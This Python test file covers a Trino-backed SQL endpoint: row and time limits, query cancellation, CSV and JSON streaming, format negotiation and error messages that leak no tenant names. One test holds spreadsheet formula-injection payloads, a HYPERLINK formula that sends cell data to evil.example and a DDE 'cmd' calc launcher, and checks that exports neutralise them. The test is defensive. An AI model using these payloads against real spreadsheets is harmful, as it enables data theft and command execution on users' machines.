"""The SQL endpoint's pure parts: row and time limits, CSV and JSON streaming, error answers, format choice."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from trino.exceptions import TrinoExternalError, TrinoUserError

from api.services import sqlquery
from api.services.sqlquery import Column, Limits, RunningQuery

COLUMNS = [Column("id", "integer"), Column("email", "varchar")]


class _Cursor:
    """A dbapi cursor's fetchmany over pages of rows; records cancel()."""

    def __init__(self, pages: list[list[list[Any]]], delay_s: float = 0.0) -> None:
        self.pages = list(pages)
        self.delay_s = delay_s
        self.cancelled = False

    def fetchmany(self, n: int) -> list[list[Any]]:
        time.sleep(self.delay_s)
        return self.pages.pop(0) if self.pages else []

    def cancel(self) -> None:
        self.cancelled = True


class _Conn:
    closed = False

    def close(self) -> None:
        self.closed = True


def _query(rows: int, limits: Limits, *, page: int = 3, delay_s: float = 0.0) -> tuple[RunningQuery, _Cursor, _Conn]:
    data = [[i, f"u{i}@x.org"] for i in range(rows)]
    first, rest = data[:1], data[1:]
    cursor = _Cursor([rest[i : i + page] for i in range(0, len(rest), page)], delay_s)
    conn = _Conn()
    query = RunningQuery(COLUMNS, cursor, conn, first, limits, time.monotonic() + limits.timeout_s)
    return query, cursor, conn


def _json(query: RunningQuery) -> dict[str, Any]:
    body = b"".join(sqlquery.stream(query, "json"))
    parsed = json.loads(body)
    assert isinstance(parsed, dict)
    return parsed


def test_all_rows_within_the_limits() -> None:
    query, cursor, conn = _query(7, Limits(100, 30))
    body = _json(query)
    assert body["columns"] == [{"name": "id", "type": "integer"}, {"name": "email", "type": "varchar"}]
    assert [r[0] for r in body["rows"]] == list(range(7))
    assert (body["row_count"], body["truncated"], body["reason"]) == (7, False, None)
    assert not cursor.cancelled and conn.closed


def test_exactly_max_rows_is_not_truncated() -> None:
    body = _json(_query(5, Limits(5, 30))[0])
    assert (body["row_count"], body["truncated"]) == (5, False)


def test_the_row_limit_stops_and_cancels_the_query() -> None:
    query, cursor, conn = _query(50, Limits(4, 30))
    body = _json(query)
    assert [r[0] for r in body["rows"]] == [0, 1, 2, 3]
    assert (body["row_count"], body["truncated"], body["reason"]) == (4, True, "row_limit")
    assert cursor.cancelled and conn.closed


def test_the_time_limit_stops_and_cancels_the_query() -> None:
    query, cursor, conn = _query(100, Limits(1000, 0.2), page=1, delay_s=0.05)
    started = time.monotonic()
    body = _json(query)
    assert time.monotonic() - started < 1.0
    assert body["truncated"] is True and body["reason"] == "time_limit"
    assert 0 < body["row_count"] < 100
    assert cursor.cancelled and conn.closed


def test_a_failure_mid_stream_ends_the_json_with_the_reason() -> None:
    query, cursor, conn = _query(3, Limits(100, 30))

    def boom(n: int) -> list[list[Any]]:
        raise TrinoExternalError({"errorName": "DELTA_LAKE_FILESYSTEM_ERROR", "message": "x"})

    cursor.fetchmany = boom  # type: ignore[method-assign]
    body = _json(query)
    assert (body["row_count"], body["truncated"], body["reason"]) == (1, True, "error")
    assert conn.closed


def test_a_client_that_goes_away_cancels_the_query() -> None:
    for fmt, reads in (("json", 1), ("json", 3), ("csv", 0)):
        query, cursor, conn = _query(50, Limits(100, 30))
        stream = sqlquery.stream(query, fmt)
        for _ in range(reads):
            next(stream)
        stream.close()
        if reads == 0:
            # A body never started: the response's background task releases the query.
            assert not conn.closed
            query.release()
        assert cursor.cancelled and conn.closed
    done, cursor, conn = _query(2, Limits(100, 30))
    b"".join(sqlquery.stream(done, "csv"))
    assert not cursor.cancelled and conn.closed


def test_csv_has_a_header_and_quotes_values() -> None:
    query = RunningQuery(
        [Column("a", "varchar"), Column("b", "decimal(5,2)"), Column("c", "array(integer)"), Column("d", "date")],
        _Cursor([[["x", None, [1, 2], date(2026, 1, 2)]]]),
        _Conn(),
        [['he said "hi", twice', Decimal("1.50"), None, None]],
        Limits(10, 30),
        time.monotonic() + 30,
    )
    text = b"".join(sqlquery.stream(query, "csv")).decode()
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b", "c", "d"],
        ['he said "hi", twice', "1.50", "", ""],
        ["x", "", "[1, 2]", "2026-01-02"],
    ]
    assert text.endswith("\r\n")


def test_csv_cells_never_run_as_spreadsheet_formulas() -> None:
    """Text a tenant's data (or a column alias) holds reaches a spreadsheet as text; numbers stay numbers. The JSON
    form is data for programs and stays as it is."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    row = [formula, "+1", "-1", "@A1", "\t=1", "\r=1", "ok", -5, Decimal("-1.50"), b"\xfb\xff", ["=x"]]
    columns = [Column("=cmd|' /C calc'!A0", "varchar")] + [Column(f"c{i}", "x") for i in range(1, len(row))]
    query = RunningQuery(columns, _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
    text = b"".join(sqlquery.stream(query, "csv")).decode()
    header, cells = list(csv.reader(io.StringIO(text)))
    assert header[0] == "'=cmd|' /C calc'!A0"
    assert cells == [
        "'" + formula,
        "'+1",
        "'-1",
        "'@A1",
        "'\t=1",
        "'\r=1",
        "ok",
        "-5",
        "-1.50",
        "'+/8=",
        '["=x"]',
    ]
    query = RunningQuery(columns, _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
    assert _json(query)["rows"][0][0] == formula


def test_json_values_of_every_type() -> None:
    row = [Decimal("3.14"), datetime(2026, 1, 2, 3, 4, tzinfo=UTC), b"\x00\x01", {"k": [Decimal("1")]}, True, None]
    query = RunningQuery([Column(str(i), "x") for i in range(6)], _Cursor([]), _Conn(), [row], Limits(5, 30), 1e12)
    assert _json(query)["rows"] == [["3.14", "2026-01-02T03:04:00+00:00", "AAE=", {"k": ["1"]}, True, None]]


@pytest.mark.parametrize(
    ("accept", "requested", "expected"),
    [
        (None, None, "json"),
        ("text/csv", None, "csv"),
        ("application/json, text/csv;q=0.5", None, "csv"),
        ("text/csv", "json", "json"),
        ("*/*", "csv", "csv"),
    ],
)
def test_format_negotiation(accept: str | None, requested: Any, expected: str) -> None:
    assert sqlquery.negotiate(accept, requested) == expected


def _user_error(name: str, message: str) -> TrinoUserError:
    return TrinoUserError({"errorName": name, "errorType": "USER_ERROR", "message": message})


def test_syntax_errors_are_400_with_trinos_message() -> None:
    problem = sqlquery.problem_for(_user_error("SYNTAX_ERROR", "line 1:1: mismatched input 'SELEC'"))
    assert (problem.status, problem.slug, problem.field) == (400, "sql-error", "sql")
    assert "mismatched input 'SELEC'" in problem.detail


@pytest.mark.parametrize("name", ["PERMISSION_DENIED", "SCHEMA_NOT_FOUND", "TABLE_NOT_FOUND", "CATALOG_NOT_FOUND"])
def test_other_tenants_objects_get_one_answer_that_names_nothing(name: str) -> None:
    problem = sqlquery.problem_for(_user_error(name, "Access Denied: Cannot select from table lake.globex.secrets"))
    assert (problem.status, problem.slug) == (400, "sql-not-accessible")
    assert "globex" not in problem.detail


def test_time_limit_and_server_errors() -> None:
    assert sqlquery.problem_for(_user_error("EXCEEDED_TIME_LIMIT", "x")).status == 422
    external = TrinoExternalError({"errorName": "DELTA_LAKE_INVALID_SCHEMA", "message": "/lake/globex/x broke"})
    problem = sqlquery.problem_for(external)
    assert problem.status == 502 and "globex" not in problem.detail
    assert sqlquery.problem_for(ConnectionRefusedError()).status == 503
